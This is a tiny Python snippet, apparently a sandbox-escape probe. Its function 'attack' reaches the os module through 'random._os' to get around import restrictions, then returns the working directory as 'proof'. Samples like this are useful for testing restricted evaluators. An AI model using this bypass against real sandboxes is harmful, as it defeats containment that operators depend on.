def attack():
    from random import _os
    return {"proof": str(_os.getcwd())}
